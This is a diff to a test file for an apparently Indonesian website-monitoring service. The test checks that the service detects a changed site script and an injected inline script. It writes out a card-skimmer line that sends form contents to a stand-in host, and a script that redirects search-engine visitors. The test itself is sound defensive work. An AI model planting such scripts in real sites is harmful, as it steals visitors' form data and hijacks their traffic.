@@ -214,6 +214,71 @@ test('baseline: a change in a dynamic region is nothing, outside it is berubah, 
 	assert.equal(s.checks.length, 6);
 });
 
+test('scripts: the site\'s own script with other content is skrip_berubah, kept as evidence; an inline script injected is too', opts, async () => {
+	const n = 'changing';
+	const page = join(SITES.dir, 'berubah/index.html');
+	const js = join(SITES.dir, 'berubah/js/situs.js');
+	const original = readFileSync(page, 'utf8');
+	const script = readFileSync(js, 'utf8');
+	const check = async () => {
+		const r = await as('ttis')('POST', `/monitor/sites/${site[n]}/check`);
+		assert.equal(r.status, 200, r.text);
+		return r.json;
+	};
+	// the page's scripts as last read, with their hashes
+	let s = await check();
+	assert.deepEqual(kinds(s), []);
+	const u = SITES.url(n);
+	const kept = JSON.parse(storeSql(S.dir, `SELECT scripts FROM monitor_pages WHERE site_id = ${site[n]} AND page = '${u}'`).trim());
+	assert.deepEqual(kept.src.map((x) => x.url), [`${u}js/situs.js`]);
+	assert.match(kept.src[0].sha256, /^[0-9a-f]{64}$/);
+	// a card skimmer written into the site's own file
+	const skimmer = script + "\ndocument.addEventListener('submit',function(){new Image().src='https://kolektor.example/c?'+btoa(document.forms[0].innerText)});\n";
+	writeFileSync(js, skimmer);
+	s = await check();
+	assert.deepEqual(kinds(s), ['skrip_berubah']);
+	const [f] = open(s);
+	assert.equal(f.level, 'high');
+	assert.equal(f.detail.what, `${u}js/situs.js`);
+	assert.equal(s.state, 'berubah');
+	// its evidence is the script as fetched, with its custody
+	assert.equal(f.evidence.url, `${u}js/situs.js`);
+	assert.match(f.evidence.agent, /Chrome/);
+	const body = await as('ttis')('GET', `/evidence/${f.evidence.body_sha256}`);
+	assert.equal(body.status, 200);
+	assert.equal(body.text, skimmer);
+	const al = await as('ttis')('GET', `/alerts/${f.alert}`);
+	assert.equal(al.json.event.fields.body_sha256, f.evidence.body_sha256);
+	assert.equal(al.json.event.fields.kind, 'skrip_berubah');
+	assert.match(al.json.title, /^Skrip pada situs berubah: /);
+	const browser = new Client(S.base);
+	await browser.login('ttis');
+	const ap = await browser.get(`/peringatan/${f.alert}`);
+	assert.match(ap.text, /Isi skrip yang dimuat halaman acuan telah berubah/);
+	// seen again: counted, not raised twice
+	s = await check();
+	assert.equal(open(s)[0].count, 2);
+	// the file put back: recovered
+	writeFileSync(js, script);
+	s = await check();
+	assert.deepEqual(kinds(s), []);
+	assert.equal(s.state, 'normal');
+	// an inline script injected into the page (a redirect of search visitors)
+	writeFileSync(page, original.replace('</body>', "<script>if (document.referrer.indexOf('google') >= 0) location.href = 'https://tujuan.example/';</script></body>"));
+	s = await check();
+	// the shipped rule of search-visitor redirects reads it too
+	assert.deepEqual(kinds(s), ['konten', 'skrip_berubah']);
+	assert.equal(open(s).find((x) => x.kind === 'konten').detail.rule, 'pengalihan-mesin-pencari');
+	const i = open(s).find((x) => x.kind === 'skrip_berubah');
+	assert.equal(i.level, 'medium');
+	assert.equal(i.detail.value, 1);
+	assert.match(i.detail.what, /^if \(document\.referrer/);
+	writeFileSync(page, original);
+	s = await check();
+	assert.deepEqual(kinds(s), []);
+	assert.equal(s.state, 'normal');
+});
+
 test('a site failing again and again is one alert with a count', opts, async () => {
 	const n = 'changing';
 	const file = join(SITES.dir, 'berubah/index.html');
